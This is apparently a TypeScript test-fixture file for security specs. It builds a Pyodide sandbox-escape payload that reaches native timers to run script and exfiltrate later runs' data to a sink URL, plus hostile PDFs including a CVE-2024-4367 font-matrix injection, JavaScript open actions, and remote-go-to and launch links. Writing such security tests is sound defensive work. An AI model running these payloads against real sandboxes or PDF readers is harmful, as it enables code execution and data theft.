// Attacks more than one security spec sends: the code an attacker would get a sandbox to run.

/** Python that, from a timer callback, climbs the receiver's prototype chain to every native timer
 * it can find and hands each a string of script: a dynamic import to the sink, and a message
 * listener that sends the sink the code of every later run. */
export function timerReceiverEscape(sinkUrl: string): string {
  const planted = `self.addEventListener('message', (e) => import('${sinkUrl}/later-run?' + encodeURIComponent(JSON.stringify(e.data))))`;
  const script = `import('${sinkUrl}/escaped'); ${planted}`;
  return [
    'import pyodide.webloop',
    'from pyodide.ffi import create_proxy, to_js',
    'Object = to_js({}).constructor',
    `SCRIPT = ${JSON.stringify(script)}`,
    'def climb(this, *args):',
    '    owner = this',
    '    for _ in range(10):',
    '        for name in ("setTimeout", "setInterval"):',
    '            try:',
    '                found = Object.getOwnPropertyDescriptor(owner, name)',
    '                found.value.call(this, SCRIPT, 0)',
    '            except Exception:',
    '                pass',
    '        try:',
    '            owner = Object.getPrototypeOf(owner)',
    '        except Exception:',
    '            return',
    'pyodide.webloop.scheduleCallback(create_proxy(climb, capture_this=True), 5)',
    'print("scheduled")',
  ].join('\n');
}

/** A page of searchable text, in Helvetica, drawn by content stream `contentId`. */
function textPage(parent: number, contentId: number, font: string, extra = ''): string {
  return `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 612 792] /Contents ${contentId} 0 R /Resources << /Font << /F1 ${font} >> >> ${extra}>>`;
}

function stream(content: string): string {
  return `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;
}

const TEXT = stream('BT /F1 12 Tf 72 720 Td (The harbour opens at dawn.) Tj ET');

/**
 * PDFs built to make a reader run code or reach the network: CVE-2024-4367's script in a font
 * matrix (pdf.js before 4.2.67 compiled it with `new Function` when eval was allowed), JavaScript
 * actions on open and on the page, and links, remote go-tos and a launch action aimed at the sink.
 * Each also carries ordinary text, so a reader that ignores the rest indexes it.
 */
export function hostilePdfs(sinkUrl: string): Array<{ name: string; objects: Array<string | undefined> }> {
  const js = (path: string) => `import('${sinkUrl}${path}'); fetch('${sinkUrl}${path}-fetch')`;
  return [
    {
      name: 'font-matrix.pdf',
      objects: [
        undefined,
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        textPage(2, 4, '5 0 R'),
        TEXT,
        `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (1\\); ${js('/font-matrix').replaceAll('(', '\\(').replaceAll(')', '\\)')}; //)] >>`,
      ],
    },
    {
      name: 'javascript-actions.pdf',
      objects: [
        undefined,
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${js('/open-action').replaceAll('(', '\\(').replaceAll(')', '\\)')}) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (${js('/named').replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>] >> >> >>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        textPage(2, 4, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', `/AA << /O << /S /JavaScript /JS (${js('/page-open').replaceAll('(', '\\(').replaceAll(')', '\\)')}) >> >> /Annots [5 0 R 6 0 R 7 0 R] `),
        TEXT,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${sinkUrl}/uri) >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F << /FS /URL /F (${sinkUrl}/remote.pdf) >> /D [0 /Fit] >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 5 5] /A << /S /Launch /F (${sinkUrl}/launch) >> >>`,
      ],
    },
  ];
}
